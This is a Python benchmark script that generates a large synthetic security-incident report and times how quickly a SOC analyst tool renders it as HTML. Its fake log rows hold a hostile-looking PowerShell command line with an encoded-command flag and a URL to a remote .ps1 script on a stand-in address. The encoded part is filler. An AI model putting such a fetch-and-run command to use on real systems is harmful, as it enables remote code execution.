"""Time the HTML page of a large report and tell its size, the parse of the report left out and told apart.

python benchmarks/report_page.py [--findings N] [--rows N] [--out FILE]
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

START = datetime(2026, 3, 1, tzinfo=UTC)
TECHNIQUES = ("T1059.001", "T1110.003", "T1021.002", "T1505.003", "T1486", "T1078.004", "T1003.001", "T1547.001")
LEVELS = ("High", "Medium", "Medium", "Low")
SECONDS, MEGABYTES = 3.0, 5.0


def main() -> int:
    """Make a report, render it, print time and size; 1 where either is above what is promised."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--findings", type=int, default=200)
    parser.add_argument("--rows", type=int, default=20_000, help="evidence rows of all findings together")
    parser.add_argument("--out", type=Path, help="where to keep the page, to look at it")
    options = parser.parse_args()
    text = json.dumps(_report(options.findings, options.rows // options.findings))

    from soc_analyst.state.report import Report

    began = time.perf_counter()
    report = Report.model_validate_json(text)
    parsed = time.perf_counter() - began
    began, busy = time.perf_counter(), time.process_time()
    from soc_analyst.tools.records.page import as_html  # its imports and catalogues are part of what a user waits for

    page = as_html(report).encode()
    took, computed = time.perf_counter() - began, time.process_time() - busy
    if options.out is not None:
        options.out.write_bytes(page)
    data = f"{len(text) / 1e6:.1f} MB of JSON (parsed in {parsed:.2f} s)"
    told = f"page in {took:.2f} s ({computed:.2f} s of CPU), {len(page) / 1e6:.2f} MB"
    sys.stdout.write(f"{options.findings} findings, {options.rows:,} rows, {data}: {told}\n")
    return int(took > SECONDS or len(page) > MEGABYTES * 1e6)


def _report(findings: int, rows: int) -> dict[str, object]:
    chance = random.Random(1)
    return {
        "thread_id": "large", "question": "Anything suspicious in the last two weeks?", "model": "none", "rounds": 3,
        "policy_hash": "0" * 64, "outcome": "confirmed", "summary": "Confirmed.", "usage": {}, "attack_version": "19",
        "window": {"start": START.isoformat(), "end": (START + timedelta(days=14)).isoformat()},
        "findings": [_finding(chance, number, rows) for number in range(findings)],
        "queries": [_query(number) for number in range(60)],
    }  # fmt: skip


def _finding(chance: random.Random, number: int, rows: int) -> dict[str, object]:
    host, account = f"ws-{chance.randrange(80):03}.contoso.com", f"user{chance.randrange(120)}"
    times = [START + timedelta(seconds=chance.randrange(14 * 86_400)) for _ in range(rows)]
    refs = [
        {"query_id": "r1q1", "table": "DeviceProcessEvents", "row": number * rows + at, "time": time.isoformat()}
        for at, time in enumerate(times)
    ]
    address = f"203.0.113.{chance.randrange(256)}"
    things = {"host": host, "account": account, "ip": address}
    claims = [{"kind": "exists", "statement": f"The {rows} rows were returned.", "verified": True, "rows": refs[:40]}]
    return {
        "id": f"f-{number}", "title": f"Office program started a shell on {host}",
        "description": "A shell was started. " * 8,
        "confidence": LEVELS[number % 4], "time": times[0].isoformat(), "evidence": refs, "claims": claims * 4,
        "log_lines": [_row(time, host, account, address) for time in times], "recommendations": ["pivot"],
        "mitre": {"id": TECHNIQUES[number % 8], "tactic": "Execution", "technique": "PowerShell"},
        "indicators_of_compromise": [address],
        "entities": [{"kind": kind, "value": value} for kind, value in things.items()],
    }  # fmt: skip


def _row(time: datetime, host: str, account: str, address: str) -> str:
    row = {
        "TimeGenerated": time.isoformat(), "DeviceName": host, "AccountName": account, "ActionType": "ProcessCreated",
        "FileName": "powershell.exe", "FolderPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "ProcessCommandLine": f"powershell.exe -NoProfile -EncodedCommand {'QQBhAGEA' * 30} http://{address}/a.ps1",
    }  # fmt: skip
    return json.dumps({**row, **{f"InitiatingProcessField{n}": f"value {n} of {host} {'x' * 30}" for n in range(25)}})


def _query(number: int) -> dict[str, object]:
    columns = ", ".join(f"Column{n}" for n in range(60))
    kql = f"let DeviceProcessEvents = DeviceProcessEvents | project {columns};\nDeviceProcessEvents\n| take 30001"
    return {
        "id": f"r1q{number}", "round": 1, "purpose": "Which programs ran", "table": "DeviceProcessEvents", "kql": kql,
        "status": "ok", "rows": 5000, "truncated": False, "elapsed_ms": 180.0,
    }  # fmt: skip


if __name__ == "__main__":
    sys.exit(main())
